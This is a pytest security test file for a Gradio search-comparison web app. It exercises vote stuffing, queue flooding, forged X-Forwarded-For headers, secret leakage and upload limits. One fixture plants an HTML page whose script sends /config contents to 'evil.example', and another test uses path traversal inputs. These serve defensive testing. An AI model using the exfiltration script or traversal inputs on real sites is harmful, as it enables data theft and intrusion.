"""The public Space against a hostile client: every rule of who may do what, tried over the
raw protocol (tests/wire.py: any event by its fn_index from /config, any data, any session,
any header), one test per finding of the security review.

Apps: `hostile` (tests/hostile_app.py: app.py's flags on a backend double whose answers wait
while a hold file exists) behind one trusted proxy, so X-Forwarded-For names the client and
one machine can play several; `direct` with no trusted proxy.
"""

from __future__ import annotations

import json
import os
import secrets
import sys
import threading

import httpx
import pytest

from conftest import REPO, _serve, free_port
from searchduel.config import DEFAULT_CORPUS
from searchduel.store import Comparison, Store
from wire import Wire

pytestmark = pytest.mark.slow
HISTORY_SECRET = "history-secret-that-stays-home"
VOTE_LIMIT = 3
CLIENT_QUEUE = 2


def _launch(tmp_path_factory, name: str, flags: list[str], env_extra: dict[str, str]):
    folder = tmp_path_factory.mktemp(name)
    hold = folder / "hold"
    port = free_port()
    env = {
        **os.environ,
        "GRADIO_ANALYTICS_ENABLED": "False",
        "PYTHONUNBUFFERED": "1",
        "SEARCHDUEL_DATA_DIR": str(folder / "data"),
        **env_extra,
    }
    cmd = [
        sys.executable, str(REPO / "tests" / "hostile_app.py"), str(hold),
        "--search", "local", "--dense", "false", "--max-new-tokens", "64",
        "--port", str(port), *flags,
    ]  # fmt: skip
    return folder, hold, _serve(cmd, env, f".{name}.log", port)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """The shipped corpus plus a page from the web with a script, under a name with spaces."""
    folder = tmp_path_factory.mktemp("corpus")
    for path in DEFAULT_CORPUS.iterdir():
        (folder / path.name).write_bytes(path.read_bytes())
    (folder / "saved page.html").write_text(
        "<html><head><title>Skagway tides</title></head><body><p>Skagway tides run high.</p>"
        "<script>fetch('/config').then(r => r.text()).then(t => new Image().src = "
        "'http://evil.example/?' + t)</script></body></html>",
        "utf-8",
    )
    return folder


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, corpus):
    """(url, hold, data folder) of the app behind one trusted proxy."""
    flags = [
        "--corpus", str(corpus), "--proxy-hops", "1", "--vote-limit", str(VOTE_LIMIT),
        "--client-queue", str(CLIENT_QUEUE), "--rate-limit", "0", "--max-file-mb", "1",
    ]  # fmt: skip
    folder, hold, served = _launch(
        tmp_path_factory, "hostile_app", flags, {"SEARCHDUEL_HISTORY_SECRET": HISTORY_SECRET}
    )
    for url in served:
        yield url, hold, folder / "data"
    hold.unlink(missing_ok=True)


@pytest.fixture(scope="module")
def direct(tmp_path_factory):
    """(url,) of an app with no trusted proxy and a rate limit of 2 comparisons a minute."""
    _folder, _hold, served = _launch(
        tmp_path_factory, "direct_app", ["--proxy-hops", "0", "--rate-limit", "2"], {}
    )
    yield from served


def stored(data_dir, **changes) -> str:
    """A comparison written straight into the app's store (as a finished run leaves one)."""
    record = Comparison(
        prompt="Who built the White Pass railway?",
        plain_answer="Someone did.",
        search_answer="The White Pass and Yukon Route was built in 1898 [1].",
        sources=[{"n": 1, "title": "Skagway", "url": "corpus://skagway.md", "site": ""}],
        settings={"search": "local", "max_new_tokens": 64},
        **changes,
    )
    with Store(data_dir / "searchduel.sqlite3") as store:
        return store.save(record)


def client(n: int) -> dict[str, str]:
    """Headers that make one request come from client n (through the trusted proxy)."""
    return {"X-Forwarded-For": f"203.0.113.{n}"}


def open_by_link(wire: Wire, cid: str, session: str, headers: dict[str, str]) -> dict:
    """The page's load event with `?c=<id>`, as a hostile client would post it (the history
    list's own event refuses an id that is not among the session's choices)."""
    state = {"visitor": "", "items": []}
    return wire.run("api:on_load", [state], session, headers=headers, params={"c": cid})


def vote(wire: Wire, session: str, headers: dict[str, str], visitor: str = "") -> dict:
    state = {"visitor": visitor or secrets.token_urlsafe(16), "items": []}
    return wire.run("vote-tie", [None, "", state], session=session, headers=headers)


# --- 1. ballot stuffing --------------------------------------------------------------------


def test_1_a_vote_needs_a_comparison_this_session_was_shown_once_and_an_address_in_its_limit(
    hostile,
):
    url, _hold, data = hostile
    cid = stored(data)
    wire = Wire(url)
    try:
        nothing = vote(wire, "never-shown", client(1))
        assert nothing["ok"] and any("no finished comparison" in w for w in nothing["warnings"])
        first = "s-first"
        open_by_link(wire, cid, first, client(1))
        assert vote(wire, first, client(1))["ok"]
        again = vote(wire, first, client(1))  # a new forged visitor id: still this session
        assert any("already voted" in w for w in again["warnings"])
        results = []
        for i in range(VOTE_LIMIT + 3):  # fresh sessions, fresh forged ids, one address
            session = f"s-{i}"
            open_by_link(wire, cid, session, client(2))
            results.append(vote(wire, session, client(2)))
        refused = [r for r in results if any("not recorded" in w for w in r["warnings"])]
        assert len(refused) == 3 and all("vote" in r["warnings"][0] for r in refused)
    finally:
        wire.close()
    with Store(data / "searchduel.sqlite3", create=False) as store:
        votes = store.votes(cid)
        refusals = store.refusals()
    assert len(votes) == 1 + VOTE_LIMIT, "one per session shown it, then the address's limit"
    assert not any(v.blind for v in votes), "opened by link: never blind"
    assert refusals.get("rate_limited") == 3 and refusals.get("duplicate") == 1
    assert refusals.get("not_shown", 0) == 0, "a page with nothing on screen is told so"


# --- 2. one client cannot take the queue ---------------------------------------------------


def test_2_one_client_cannot_fill_the_queue_and_the_next_visitor_gets_in(hostile):
    url, hold, _data = hostile
    wire = Wire(url)
    api = next(d["id"] for d in wire.config["dependencies"] if d.get("api_name") == "compare")
    data = ["Plan a day in Skagway", 64, 0.0, 3, "local", "", None]
    hold.touch()
    try:
        statuses = [wire.join(api, data, f"flood-{i}", client(7)).status_code for i in range(8)]
        assert statuses.count(200) == CLIENT_QUEUE, statuses
        assert set(statuses[CLIENT_QUEUE:]) == {400}, "refused at once, not queued"
        other = wire.join(api, data, "visitor-2", client(8))
        assert other.status_code == 200, "another visitor is not told the queue is full"
    finally:
        hold.unlink(missing_ok=True)
        wire.close()


# --- 4. private by default -----------------------------------------------------------------


def test_4_no_export_event_without_an_operator_token_and_no_server_detail_in_a_record(
    hostile, corpus
):
    url, _hold, data = hostile
    wire = Wire(url)
    try:
        assert not wire.has_event("export-csv") and not wire.has_event("export-jsonl")
        assert "export-csv" not in wire.ids and "admin-token" not in wire.ids
        cid = stored(data, model=str(corpus.parent / "models" / "tiny"))
        shown = open_by_link(wire, cid, "s-private", client(3))
        text = json.dumps(shown["output"])
        assert cid in text, "the comparison was shown"
        for private in (str(corpus), str(data)):
            at = text.find(private)
            assert at < 0, text[max(0, at - 300) : at + 100]
    finally:
        wire.close()


def test_4_the_operator_token_unlocks_exports_and_a_wrong_one_does_not(app_url):
    from conftest import ADMIN_TOKEN

    wire = Wire(app_url)
    try:
        wrong = wire.run("export-jsonl", ["not-the-token"])
        assert not wrong["ok"] and "operator token" in json.dumps(wrong)
        right = wire.run("export-jsonl", [ADMIN_TOKEN])
        assert right["ok"] and right["output"][0]["value"]["path"].endswith(".jsonl")
    finally:
        wire.close()


# --- 5. bounded ----------------------------------------------------------------------------


def test_5_an_upload_over_the_cap_is_refused_before_it_is_kept(hostile):
    url, _hold, _data = hostile
    big = b"x" * 1_500_000
    with httpx.Client(trust_env=False, timeout=60) as http:
        r = http.post(f"{url.rstrip('/')}/gradio_api/upload", files={"files": ("a.bin", big)})
        assert r.status_code in (400, 413), r.status_code
        small = http.post(f"{url.rstrip('/')}/gradio_api/upload", files={"files": ("a.txt", b"q")})
        assert small.status_code == 200


# --- 6. forwarded headers only from trusted proxies ----------------------------------------


def test_6_x_forwarded_for_does_not_make_a_new_client_without_a_trusted_proxy(direct):
    wire = Wire(direct)
    api = next(d["id"] for d in wire.config["dependencies"] if d.get("api_name") == "compare")
    data = ["Plan a day in Skagway", 16, 0.0, 1, "local", "", None]
    try:
        errors = []
        for i in range(4):
            session = f"xff-{i}"
            r = wire.join(api, data, session, {"X-Forwarded-For": f"198.51.100.{i}"})
            assert r.status_code == 200
            final = [m for m in wire.messages(session) if m.get("msg") == "process_completed"]
            errors.append(json.dumps(final[-1].get("output", {}).get("error")))
    finally:
        wire.close()
    assert sum("Too many questions" in e for e in errors) == 2, errors


# --- 7. nothing secret in /config ----------------------------------------------------------


def test_7_config_and_page_carry_no_secret(hostile):
    url, _hold, _data = hostile
    with httpx.Client(trust_env=False, timeout=30) as http:
        for path in ("/config", "/"):
            assert HISTORY_SECRET not in http.get(url.rstrip("/") + path).text


# --- 9. corpus pages are text --------------------------------------------------------------


def test_9_corpus_pages_are_served_as_text_by_their_name_never_as_html(hostile, corpus):
    url = hostile[0].rstrip("/")
    with httpx.Client(trust_env=False, timeout=30) as http:
        page = http.get(f"{url}/corpus/saved%20page.html")
        assert page.status_code == 200 and page.headers["content-type"].startswith("text/plain")
        assert page.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in page.headers["content-security-policy"]
        assert "<script>" in page.text, "shown as the text it is"
        for bad in ("/corpus/../app.py", "/corpus/%2e%2e/app.py", "/corpus/nope.md"):
            assert http.get(url + bad).status_code == 404, bad
        raw = http.get(f"{url}/gradio_api/file={corpus / 'saved page.html'}")
        assert raw.status_code in (403, 404), "the folder is not one of Gradio's served paths"


# --- 11. the run table ---------------------------------------------------------------------


def test_11_the_run_table_keeps_only_runs_in_progress(tmp_path):
    """In-process: API comparisons leave nothing behind, and locks from sessions that vanish
    are bounded."""
    from fakes import CitingBackend
    from searchduel import ui
    from searchduel.config import Settings
    from searchduel.loader import BackendLoader
    from searchduel.ui.duel import Runs

    settings = Settings(
        search="local", dense=False, max_new_tokens=8, data_dir=str(tmp_path), rate_limit=0,
        port=free_port(), client_queue=0,
    )  # fmt: skip
    loader = BackendLoader(settings, factory=lambda s, p: CitingBackend()).start()
    demo = ui.build(loader, settings)
    demo.launch(prevent_thread_lock=True, **ui.launch_kwargs(settings))
    try:
        lock = next(f.fn for f in demo.fns.values() if getattr(f.fn, "__name__", "") == "lock")
        runs: Runs = lock.__self__.runs
        wire = Wire(f"http://127.0.0.1:{settings.port}/")
        done = [wire.run("ask", ["Skagway?", 16, 0.0, 1, "local", False], session=f"l-{i}")
                for i in range(5)]  # fmt: skip
        assert all(d["ok"] for d in done) and len(runs) == 5, "locked, never run: kept for now"
        runs.max_runs = 5
        wire.run("ask", ["Skagway?", 16, 0.0, 1, "local", False], session="l-new")
        assert len(runs) <= 5, "the oldest stale entries make room"
        api = next(d["id"] for d in wire.config["dependencies"] if d.get("api_name") == "compare")
        threads = [
            threading.Thread(
                target=lambda s=s: (
                    wire.join(api, ["Juneau?", 8, 0.0, 1, "local", "", None], s),
                    wire.messages(s),
                )
            )
            for s in ("api-1", "api-2")
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join(60)
        assert not any(k.startswith("api") for k in runs._runs), "API runs leave nothing"
        wire.close()
    finally:
        demo.close()


# --- 12. smaller ---------------------------------------------------------------------------


def test_12_a_prompt_of_invisible_characters_is_refused_as_empty(hostile):
    wire = Wire(hostile[0])
    try:
        out = wire.run("ask", ["\u200b\u200d\ufeff", 64, 0.0, 3, "local", False], session="z")
        assert any("Type a question first" in w for w in out["warnings"])
        assert out["output"][0] is None or "Running" not in json.dumps(out["output"])
    finally:
        wire.close()


# --- 2 (load). five batches from one client, one question from another -------------------


def test_2_five_batches_from_one_client_never_hold_up_another_visitors_question(hostile, tmp_path):
    """Client A starts five batches of 20 questions at once; client B asks one question. A
    gets one batch (the rest refused at once, never queued), B is never told the queue is
    full, and B's comparison ends while A's batch is still running: it waited for at most
    the comparison in progress, never for the batch."""
    from gradio_client import Client, handle_file

    url = hostile[0]
    log = REPO / "tests" / ".hostile_app.log"
    path = tmp_path / "many.txt"
    path.write_text("".join(f"What is there to do in Skagway, day {i}?\n" for i in range(20)))
    a = Client(url, verbose=False, headers=client(20))
    b = Client(url, verbose=False, headers=client(21))
    jobs = [a.submit(handle_file(str(path)), api_name="/batch") for _ in range(5)]
    start = len(log.read_bytes())
    answer = b.predict("Plan a day in Juneau", 64, 0.0, 3, "local", api_name="/compare")
    assert answer and "Juneau" not in str(answer[0])[:0]  # an answer came back
    lines = log.read_bytes()[start:].decode("utf-8", "replace").splitlines()
    done = [json.loads(x[x.index("{") :]) for x in lines if '"event": "comparison"' in x]
    batch_done = sum(
        1 for d in done if d.get("prompt_chars") == len("What is there to do in Skagway, day 0?")
    )
    assert batch_done < 20, "B's question did not wait for the batch to end"
    outcomes = []
    for job in jobs:
        try:
            job.result(timeout=120)
            outcomes.append("ran")
        except Exception as exc:  # refused: by the batch rule, or at the queue's door
            outcomes.append(str(exc))
    assert outcomes.count("ran") == 1, outcomes
    others = [o for o in outcomes if o != "ran"]
    assert all("already running" in o or "400" in o for o in others), others
    assert not any("503" in o or "full" in o.lower() for o in others), others
